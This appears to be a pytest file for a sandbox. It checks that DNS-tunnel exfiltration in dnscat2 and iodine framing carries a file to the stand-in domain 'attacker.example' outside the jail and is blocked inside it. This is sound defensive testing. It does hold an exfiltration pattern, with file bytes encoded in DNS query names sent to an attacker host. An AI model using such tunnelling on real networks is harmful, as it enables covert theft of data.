"""Tunnels through DNS out of a real jail: not one name arrives.

Positive control: without the jail the same programs move a file, packet by packet acknowledged,
through the host's resolver, and reach the attacker's server straight.
"""

from __future__ import annotations

import random

import pytest

from tests.lab import Lab
from tests.lab.agents import Ran, python, run
from tests.lab.world import ATTACKER, Answer

pytestmark = [pytest.mark.lab, pytest.mark.timeout(180)]

FILE = random.Random("a file").randbytes(900)
FRAMINGS = ("dnscat2", "iodine")


def _domain(framing: str) -> str:
    return f"{framing}.attacker.example"


def _tunnel(lab: Lab, framing: str, server: str, *, jailed: bool) -> Ran:
    lab.set_name(f"*.{_domain(framing)}", Answer(records=(("TXT", '"ok"'),)))
    lab.clear()
    words = python("dns_tunnel.py", framing, _domain(framing), server, FILE.hex())
    return run(lab, words, jailed=jailed)


def _arrived(lab: Lab, framing: str) -> list[str]:
    """Names below the attacker's domain that its server was asked for."""
    return [entry.name for entry in lab.dns_log() if entry.name.endswith(_domain(framing))]


@pytest.mark.parametrize("framing", FRAMINGS)
def test_through_the_resolver(lab: Lab, framing: str) -> None:
    free = _tunnel(lab, framing, "", jailed=False).json()
    assert free["acknowledged"] == free["packets"] > 5
    names = _arrived(lab, framing)
    assert len(names) == free["packets"]
    if framing == "dnscat2":
        sent = [bytes.fromhex("".join(name.split(".")[:-3])) for name in names]
        assert b"".join(packet[9:] for packet in sent[1:]) == FILE

    done = _tunnel(lab, framing, "", jailed=True)
    assert done.json()["acknowledged"] == 0
    assert _arrived(lab, framing) == []
    assert lab.oracle.records() == []
    assert "dns_tunnel" in {event["reason"] for event in done.blocks()}


@pytest.mark.parametrize("framing", FRAMINGS)
def test_straight_to_the_server(lab: Lab, framing: str) -> None:
    _tunnel(lab, framing, ATTACKER[0], jailed=False)
    assert lab.oracle.records()  # it is there, and sees what is sent

    done = _tunnel(lab, framing, ATTACKER[0], jailed=True)
    assert done.json()["acknowledged"] == 0
    assert lab.oracle.records() == []
    assert _arrived(lab, framing) == []
    assert "dns_tunnel" in {event["reason"] for event in done.blocks()}
